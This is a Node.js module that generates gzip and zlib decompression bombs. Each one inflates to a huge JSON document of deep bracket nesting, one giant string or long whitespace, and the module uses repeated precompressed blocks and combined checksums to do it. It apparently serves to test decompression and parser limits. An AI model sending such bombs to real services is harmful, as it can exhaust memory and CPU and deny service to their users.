// How a zip bomb is made (bombs.js is the door): gzip and deflate runs repeat one precompressed block with a
// checksum combined without the data; br and zstd go through zlib's compressor once into a cache. README.md.
import { Readable } from 'node:stream'
import zlib from 'node:zlib'
import { adler32, adler32Combine, adler32Repeat } from './adler32-combine.js'
import { crc32Combine, crc32Repeat } from './crc32-combine.js'
import { TAIL, documentHead, frameBytes } from './bomb-params.js'

/** Deflate's own best: 1 MiB of one byte compresses to 1038 bytes (1010:1). */
const RUN_BLOCK = 1024 * 1024
/** Small compressed pieces are emitted several at a time, in chunks of about this size. */
export const EMIT_CHUNK = 64 * 1024
const SPACE = 0x20

// A gzip header with no name, no time (MTIME 0), XFL 2 (best compression), OS 3 (Unix).
const GZIP_HEADER = Buffer.from([0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x02, 0x03])
const SYNC = { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH }
// The empty final block that ends every deflate stream made here (03 00).
const FINAL_BLOCK = zlib.deflateRawSync(Buffer.alloc(0), { level: 9 })
// A zlib header (RFC 1950): deflate, 32 KiB window, FLEVEL 3 (best), no dictionary; 0x78DA is a multiple of 31.
const ZLIB_HEADER = Buffer.from([0x78, 0xDA])

// ---------------------------------------------------------------------------
// Documents as segments: literal text, or a run of one byte.

function literal (text) {
  return { literal: Buffer.from(text, 'utf8') }
}

function run (byte, count) {
  return { byte, count }
}

function segmentLength (segment) {
  return segment.literal ? segment.literal.length : segment.count
}

export function documentSegments (params) {
  const { variant } = params
  const head = documentHead(variant)
  if (variant === 'depth') {
    return [literal(head), run(0x5B, params.depth), run(0x5D, params.depth), literal(TAIL)]
  }
  const fill = params.bytes - frameBytes(variant)
  if (variant === 'string') {
    return [literal(head + '{"id":1,"s":"'), run(0x61, fill), literal('"}' + TAIL)]
  }
  return [literal(head), run(SPACE, fill), literal(TAIL)]
}

/** The part of a document between two byte offsets, as segments. */
function sliceSegments (segments, start, end) {
  const out = []
  let offset = 0
  for (const segment of segments) {
    const length = segmentLength(segment)
    const from = Math.max(start, offset)
    const to = Math.min(end, offset + length)
    if (from < to) {
      out.push(segment.literal
        ? { literal: segment.literal.subarray(from - offset, to - offset) }
        : run(segment.byte, to - from))
    }
    offset += length
  }
  return out
}

function segmentsKey (segments) {
  return segments.map(function describe (s) {
    return s.literal ? `L${s.literal.toString('hex')}` : `R${s.byte}x${s.count}`
  }).join('|')
}

// ---------------------------------------------------------------------------
// Compiling: segments to the pieces of one gzip member or zlib stream, `{ buffer, times }`.

const runBlocks = new Map()

/** 1 MiB of one byte, deflated once per process and per byte, with both checksums of its bytes. */
function runBlock (byte) {
  let block = runBlocks.get(byte)
  if (block === undefined) {
    const plain = Buffer.alloc(RUN_BLOCK, byte)
    const compressed = zlib.deflateRawSync(plain, SYNC)
    block = { compressed, crc: zlib.crc32(plain), adler: adler32(plain), repeated: repeatedBuffer(compressed) }
    runBlocks.set(byte, block)
  }
  return block
}

/** Several copies of a small buffer side by side, so emitting does not push kilobytes at a time. */
function repeatedBuffer (buffer) {
  const copies = Math.max(1, Math.floor(EMIT_CHUNK / buffer.length))
  return { buffer: Buffer.concat(new Array(copies).fill(buffer)), copies }
}

/** gzip (RFC 1952: CRC-32 and length, little-endian) and zlib (RFC 1950: Adler-32, big-endian) around one block. */
export const FRAMINGS = Object.freeze({
  gzip: Object.freeze({
    header: GZIP_HEADER,
    initial: 0,
    of: function crcOf (buffer, crc) { return zlib.crc32(buffer, crc) },
    sum: function crcOfBlock (block) { return block.crc },
    combine: crc32Combine,
    repeat: crc32Repeat,
    trailer: function gzipTrailer (crc, length) {
      const trailer = Buffer.alloc(8)
      trailer.writeUInt32LE(crc >>> 0, 0)
      // ISIZE is the length modulo 2^32: a 10 GB member's trailer says 1.4 GB
      trailer.writeUInt32LE(length % 2 ** 32, 4)
      return trailer
    }
  }),
  zlib: Object.freeze({
    header: ZLIB_HEADER,
    initial: 1,
    of: adler32,
    sum: function adlerOfBlock (block) { return block.adler },
    combine: adler32Combine,
    repeat: adler32Repeat,
    trailer: function zlibTrailer (adler) {
      const trailer = Buffer.alloc(4)
      trailer.writeUInt32BE(adler >>> 0, 0)
      return trailer
    }
  })
})

function compileMember (segments, framing = FRAMINGS.gzip) {
  const pieces = [{ buffer: framing.header, times: 1 }]
  let sum = framing.initial
  let length = 0
  for (const segment of segments) {
    if (segment.literal) {
      pieces.push({ buffer: zlib.deflateRawSync(segment.literal, SYNC), times: 1 })
      sum = framing.of(segment.literal, sum)
      length += segment.literal.length
      continue
    }
    const block = runBlock(segment.byte)
    const whole = Math.floor(segment.count / RUN_BLOCK)
    const rest = segment.count % RUN_BLOCK
    if (whole > 0) {
      const { buffer, copies } = block.repeated
      if (whole >= copies) pieces.push({ buffer, times: Math.floor(whole / copies) })
      if (whole % copies > 0) pieces.push({ buffer: block.compressed, times: whole % copies })
      sum = framing.combine(sum, framing.repeat(framing.sum(block), RUN_BLOCK, whole), whole * RUN_BLOCK)
    }
    if (rest > 0) {
      const tail = Buffer.alloc(rest, segment.byte)
      pieces.push({ buffer: zlib.deflateRawSync(tail, SYNC), times: 1 })
      sum = framing.of(tail, sum)
    }
    length += segment.count
  }
  pieces.push({ buffer: Buffer.concat([FINAL_BLOCK, framing.trailer(sum, length)]), times: 1 })
  const compressedBytes = pieces.reduce(function add (total, p) { return total + p.buffer.length * p.times }, 0)
  return { pieces, compressedBytes, inflatedBytes: length }
}

/** The members of the outer gzip layer, run-length grouped (`{ member, times }`): equal slices compile once. */
export function planMembers (segments, count, framing = FRAMINGS.gzip) {
  const total = segments.reduce(function add (sum, s) { return sum + segmentLength(s) }, 0)
  const each = Math.floor(total / count)
  const compiled = new Map()
  const groups = []
  for (let k = 0; k < count; k++) {
    const start = k * each
    const end = k === count - 1 ? total : start + each
    const slice = sliceSegments(segments, start, end)
    const key = segmentsKey(slice)
    let member = compiled.get(key)
    if (member === undefined) {
      member = compileMember(slice, framing)
      compiled.set(key, member)
    }
    const last = groups[groups.length - 1]
    if (last && last.member === member) last.times++
    else groups.push({ member, times: 1 })
  }
  return groups
}

/** Every buffer of the plan, in order, repeats included. */
function * emitPlan (groups) {
  for (const { member, times } of groups) {
    for (let m = 0; m < times; m++) {
      for (const piece of member.pieces) {
        for (let t = 0; t < piece.times; t++) yield piece.buffer
      }
    }
  }
}

/** The compiled bomb as a stream: pushes ready-made (and shared, never changed) buffers on demand. */
export class BombStream extends Readable {
  #buffers

  constructor (groups) {
    super({ highWaterMark: EMIT_CHUNK })
    this.#buffers = emitPlan(groups)
    /** Compressed bytes pushed so far. */
    this.bytes = 0
  }

  _read () {
    for (;;) {
      const next = this.#buffers.next()
      if (next.done) {
        this.push(null)
        return
      }
      this.bytes += next.value.length
      if (!this.push(next.value)) return
    }
  }
}

/** The inflated document as a stream for a compressor: runs as slices of one shared MiB, pushed on demand. */
export class DocumentStream extends Readable {
  #segments
  #index = 0
  #left = 0

  constructor (segments) {
    super({ highWaterMark: RUN_BLOCK })
    this.#segments = segments
    this.#left = segments.length > 0 ? segmentLength(segments[0]) : 0
  }

  _read () {
    for (;;) {
      if (this.#index >= this.#segments.length) {
        this.push(null)
        return
      }
      const segment = this.#segments[this.#index]
      if (this.#left === 0) {
        this.#index++
        this.#left = this.#index < this.#segments.length ? segmentLength(this.#segments[this.#index]) : 0
        continue
      }
      const n = Math.min(this.#left, RUN_BLOCK)
      const piece = segment.literal
        ? segment.literal.subarray(segment.literal.length - this.#left, segment.literal.length - this.#left + n)
        : runBytes(segment.byte).subarray(0, n)
      this.#left -= n
      if (!this.push(piece)) return
    }
  }
}

const runBuffers = new Map()

/** A MiB of one byte, made once per process and per byte, never changed (pushed as it is). */
function runBytes (byte) {
  let buffer = runBuffers.get(byte)
  if (buffer === undefined) {
    buffer = Buffer.alloc(RUN_BLOCK, byte)
    runBuffers.set(byte, buffer)
  }
  return buffer
}
